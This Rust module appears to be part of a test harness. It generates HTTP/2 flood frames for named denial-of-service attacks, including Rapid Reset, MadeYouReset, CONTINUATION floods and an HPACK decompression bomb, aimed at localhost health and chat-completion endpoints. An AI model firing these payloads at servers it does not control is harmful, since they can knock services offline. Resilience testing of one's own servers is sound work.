//! The floods of HTTP/2 frames that are known by name, piece by piece.

use super::http2::{Flags, Frames, Kind, request_block};

/// A code that says that a stream is no longer wanted (RFC 9113, 7).
const CANCEL: u32 = 8;
/// Bytes of the field that a bomb names again and again.
const BOMB_FIELD_BYTES: usize = 4_000;
/// How often it names it: 40 MB from 14 KB.
const BOMB_NAMES: usize = 10_000;

/// One flood: its name, and what it sends in each round.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What it is called.
    pub name: &'static str,
    piece: fn(&Asked, u32) -> Frames,
}

/// What a flood needs to begin a request.
#[derive(Clone, Debug, Default)]
pub struct Asked {
    /// `Bearer` and a key, where only a request that is let in can be abused.
    pub authorization: Option<String>,
}

impl Flood {
    /// The flood of this name.
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        FLOODS.iter().find(|flood| flood.name == name).copied()
    }

    /// What it sends in this round.
    #[must_use]
    pub fn piece(&self, asked: &Asked, round: u32) -> Frames {
        (self.piece)(asked, round)
    }
}

/// All of them.
pub const FLOODS: &[Flood] = &[
    Flood { name: "rapid-reset", piece: rapid_reset },
    Flood { name: "made-you-reset-window-0", piece: |_, round| window_update(round, 0) },
    Flood {
        name: "made-you-reset-window-max",
        piece: |_, round| window_update(round, 0x7fff_ffff),
    },
    Flood { name: "made-you-reset-data", piece: data_after_the_end },
    Flood { name: "made-you-reset-priority", piece: depends_on_itself },
    Flood { name: "made-you-reset-length", piece: more_than_said },
    Flood { name: "continuation", piece: |_, round| continuation(round, &filler()) },
    Flood { name: "empty-continuation", piece: |_, round| continuation(round, &[]) },
    Flood { name: "settings", piece: |_, _| idle(Kind::Settings, 0, &[]) },
    Flood { name: "ping", piece: |_, _| idle(Kind::Ping, 0, &[7; 8]) },
    Flood { name: "priority", piece: |_, _| idle(Kind::Priority, 1, &[0, 0, 0, 3, 0]) },
    Flood {
        name: "window-update",
        piece: |_, _| Frames::default().number(Kind::WindowUpdate, 0, 1),
    },
    Flood { name: "empty-data", piece: empty_data },
    Flood { name: "hpack-bomb", piece: bomb },
];

impl Asked {
    /// The field block of a request without a body that everybody may send.
    #[must_use]
    pub fn get() -> Vec<u8> {
        request_block(&[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", "/healthz"),
        ])
    }

    /// The field block of a chat request that has a body.
    #[must_use]
    pub fn post(&self) -> Vec<u8> {
        let mut block = request_block(&[
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", "/v1/chat/completions"),
            ("content-type", "application/json"),
        ]);
        if let Some(authorization) = &self.authorization {
            block.extend(request_block(&[("authorization", authorization)]));
        }
        block
    }
}

/// The number of the stream that a client opens in this round.
const fn stream(round: u32) -> u32 {
    2 * round + 1
}

fn open(round: u32) -> Frames {
    Frames::default().frame(Kind::Headers, Flags::END, stream(round), &Asked::get())
}

/// CVE-2023-44487.
fn rapid_reset(_: &Asked, round: u32) -> Frames {
    open(round).number(Kind::ResetStream, stream(round), CANCEL)
}

/// CVE-2025-8671, as the next three: the peer is made to reset the stream.
fn window_update(round: u32, by: u32) -> Frames {
    open(round).number(Kind::WindowUpdate, stream(round), by)
}

fn data_after_the_end(_: &Asked, round: u32) -> Frames {
    open(round).frame(Kind::Data, Flags::NONE, stream(round), b"x")
}

fn depends_on_itself(_: &Asked, round: u32) -> Frames {
    let own = stream(round).to_be_bytes();
    let payload = [own[0], own[1], own[2], own[3], 0];
    open(round).frame(Kind::Priority, Flags::NONE, stream(round), &payload)
}

fn more_than_said(_: &Asked, round: u32) -> Frames {
    let block = request_block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", "/v1/messages"),
        ("content-length", "1"),
    ]);
    Frames::default().frame(Kind::Headers, Flags::END_HEADERS, stream(round), &block).frame(
        Kind::Data,
        Flags::END_STREAM,
        stream(round),
        b"xyz",
    )
}

fn filler() -> Vec<u8> {
    request_block(&[("x-a", &"b".repeat(1_000))])
}

/// CVE-2024-27316 and its relatives: a head without end.
fn continuation(round: u32, more: &[u8]) -> Frames {
    match round {
        0 => Frames::default().frame(Kind::Headers, Flags::END_STREAM, 1, &Asked::get()),
        _ => Frames::default().frame(Kind::Continuation, Flags::NONE, 1, more),
    }
}

fn idle(kind: Kind, stream: u32, payload: &[u8]) -> Frames {
    Frames::default().frame(kind, Flags::NONE, stream, payload)
}

/// CVE-2019-9518.
fn empty_data(asked: &Asked, round: u32) -> Frames {
    match round {
        0 => Frames::default().frame(Kind::Headers, Flags::END_HEADERS, 1, &asked.post()),
        _ => idle(Kind::Data, 1, &[]),
    }
}

/// One field goes into the table; each further byte names it again.
fn bomb(_: &Asked, round: u32) -> Frames {
    let mut block = Asked::get();
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0x80 | 0x21, 0x1e]);
    block.extend_from_slice(&[b'a'; BOMB_FIELD_BYTES]);
    block.extend(std::iter::repeat_n(0xbe, BOMB_NAMES));
    Frames::default().frame(Kind::Headers, Flags::END, stream(round), &block)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_flood_has_one_name_and_says_something_in_every_round() {
        let asked = Asked::default();
        for flood in FLOODS {
            assert_eq!(FLOODS.iter().filter(|other| other.name == flood.name).count(), 1);
            assert!(Flood::named(flood.name).is_some());
            for round in [0, 1, 9_999] {
                assert!(flood.piece(&asked, round).bytes().len() >= 9, "{}", flood.name);
            }
        }
        assert!(Flood::named("").is_none());
    }
}
